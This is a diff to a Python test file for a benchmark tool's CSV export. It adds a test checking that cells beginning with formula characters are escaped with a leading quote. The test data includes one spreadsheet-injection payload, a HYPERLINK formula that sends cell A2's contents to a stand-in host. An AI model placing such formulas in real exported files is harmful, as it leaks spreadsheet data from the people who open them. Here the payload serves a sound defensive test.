@@ -7,11 +7,12 @@ import io
 import json
 import re
 from pathlib import Path
+from typing import Any
 
 import pytest
 
 from ssebench.cli import main
-from ssebench.runs import FILTERS, RUN_COLUMNS, matching, read_runs, score_table
+from ssebench.runs import FILTERS, RUN_COLUMNS, export_csv, matching, read_runs, score_table
 from ssebench.scores import SCORE_COLUMNS
 from tests.helpers import HOSTILE_RUN, RESULTS_FIXTURE, hostile_results
 
@@ -131,3 +132,18 @@ def _column_table(columns: dict[str, str]) -> str:
 def test_docs_viewer_md_describes_every_exported_column_as_the_code_does(columns: dict[str, str]) -> None:
     table = _column_table(columns)
     assert table in VIEWER_DOC.read_text(), f"paste this table into {VIEWER_DOC.name}:\n{table}"
+
+
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text() -> None:
+    """A predictions file names the model: `=HYPERLINK(...)` in a CSV cell is a formula to Excel and
+    LibreOffice. Such a cell starts with a quote; numbers and other text are as they were."""
+    out = io.StringIO()
+    rows: list[dict[str, Any]] = [
+        {"model": '=HYPERLINK("http://x.example/?"&A2,"open")', "tokens": -3, "task": "c-demo"},
+        {"model": "+1", "tokens": 5, "task": "@x"},
+        {"model": "-2", "tokens": None, "task": "\tx"},
+    ]
+    export_csv(rows, out)
+    cells = list(csv.reader(io.StringIO(out.getvalue())))
+    assert cells[1] == ['\'=HYPERLINK("http://x.example/?"&A2,"open")', "-3", "c-demo"]
+    assert cells[2] == ["'+1", "5", "'@x"] and cells[3] == ["'-2", "", "'\tx"]
